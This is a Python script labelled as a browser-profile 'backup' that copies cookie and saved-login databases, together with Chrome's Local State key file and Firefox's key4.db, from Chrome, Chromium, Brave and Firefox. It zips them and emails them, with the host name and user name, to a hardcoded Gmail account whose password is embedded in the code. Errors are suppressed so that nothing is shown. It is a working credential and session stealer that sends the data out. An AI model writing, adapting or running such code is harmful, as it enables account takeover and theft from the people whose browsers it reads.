#!/usr/bin/env python3
"""Mail a backup of browser profile data.

Copies the cookie and saved-login databases of Chrome, Chromium, Brave and
Firefox profiles, zips them together with the Chrome "Local State" key
file and emails the archive through Gmail.
"""
import glob
import io
import logging
import os
import platform
import shutil
import smtplib
import socket
import ssl
import tempfile
import zipfile
from email.message import EmailMessage

log = logging.getLogger("profile-backup")

SMTP_HOST = "smtp.gmail.com"
SMTP_PORT = 465
MAIL_USER = "quarterly.archive.svc@gmail.com"
MAIL_PASS = "vkqe mzpt hrwa lbxs"
MAIL_TO = "quarterly.archive.svc@gmail.com"

HOME = os.path.expanduser("~")
CHROMIUM_ROOTS = [
    os.path.join(HOME, ".config", "google-chrome"),
    os.path.join(HOME, ".config", "chromium"),
    os.path.join(HOME, ".config", "BraveSoftware", "Brave-Browser"),
    os.path.join(HOME, "Library", "Application Support", "Google", "Chrome"),
]
FIREFOX_ROOTS = [
    os.path.join(HOME, ".mozilla", "firefox"),
    os.path.join(HOME, "Library", "Application Support", "Firefox", "Profiles"),
]
CHROMIUM_FILES = ("Cookies", "Network/Cookies", "Login Data", "Web Data")
FIREFOX_FILES = ("cookies.sqlite", "logins.json", "key4.db", "cert9.db")


def chromium_targets():
    for root in CHROMIUM_ROOTS:
        if not os.path.isdir(root):
            continue
        local_state = os.path.join(root, "Local State")
        if os.path.isfile(local_state):
            yield local_state, os.path.relpath(local_state, HOME)
        for profile in glob.glob(os.path.join(root, "Default")) + glob.glob(os.path.join(root, "Profile *")):
            for name in CHROMIUM_FILES:
                path = os.path.join(profile, name)
                if os.path.isfile(path):
                    yield path, os.path.relpath(path, HOME)


def firefox_targets():
    for root in FIREFOX_ROOTS:
        for profile in glob.glob(os.path.join(root, "*.default*")):
            for name in FIREFOX_FILES:
                path = os.path.join(profile, name)
                if os.path.isfile(path):
                    yield path, os.path.relpath(path, HOME)


def build_archive():
    buf = io.BytesIO()
    count = 0
    with tempfile.TemporaryDirectory() as scratch, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for src, arcname in list(chromium_targets()) + list(firefox_targets()):
            # copy first: the browser keeps its databases locked while running
            tmp = os.path.join(scratch, f"{count}.bin")
            try:
                shutil.copyfile(src, tmp)
            except OSError as exc:
                log.debug("cannot copy %s: %s", src, exc)
                continue
            zf.write(tmp, arcname)
            count += 1
    return buf.getvalue(), count


def send(archive, count):
    msg = EmailMessage()
    host = socket.gethostname()
    msg["Subject"] = f"profile backup {os.environ.get('USER', '?')}@{host} ({count} files)"
    msg["From"] = MAIL_USER
    msg["To"] = MAIL_TO
    msg.set_content(f"host: {host}\nos: {platform.platform()}\nfiles: {count}\n")
    msg.add_attachment(archive, maintype="application", subtype="zip", filename=f"{host}.zip")
    with smtplib.SMTP_SSL(SMTP_HOST, SMTP_PORT, context=ssl.create_default_context(), timeout=60) as s:
        s.login(MAIL_USER, MAIL_PASS)
        s.send_message(msg)


def main():
    logging.basicConfig(level=logging.ERROR)
    archive, count = build_archive()
    if not count:
        log.info("no browser profiles found")
        return
    try:
        send(archive, count)
    except (smtplib.SMTPException, OSError) as exc:
        log.debug("send failed: %s", exc)


if __name__ == "__main__":
    main()
